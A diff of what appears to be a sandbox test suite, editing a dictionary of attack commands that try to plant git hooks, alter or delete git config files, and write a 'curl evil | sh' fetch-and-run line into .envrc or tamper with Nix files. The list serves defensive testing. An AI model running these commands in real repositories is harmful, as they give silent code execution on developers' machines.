@@ -60,11 +60,12 @@ def _listing(path: Path) -> list[str]:
 
 ATTACKS = {
     "git hook": "echo evil > .git/hooks/pre-commit",
-    "git config": "git config core.fsmonitor 'sh -c evil'",
+    # git config writes land in a copy (test_git_config.py); the host's file is untouched.
+    "git config (rename over it)": "mv .git/config .git/x && echo '[core]' > .git/config",
     "git info": "echo '*' > .git/info/exclude || echo x > .git/info/attributes",
     "hooksPath dir": "echo evil > tools/hooks/pre-commit",
     "nested repo hook": "echo evil > vendor/lib/.git/hooks/post-checkout",
-    "nested repo config": "echo '[core] hooksPath=/tmp' >> vendor/lib/.git/config",
+    "nested repo config": "rm -f vendor/lib/.git/config",
     ".envrc": "echo 'curl evil | sh' > .envrc",
     "flake.nix": "echo '{ }' > flake.nix",
     "shell.nix (existing)": "echo '{ evil }' > shell.nix",
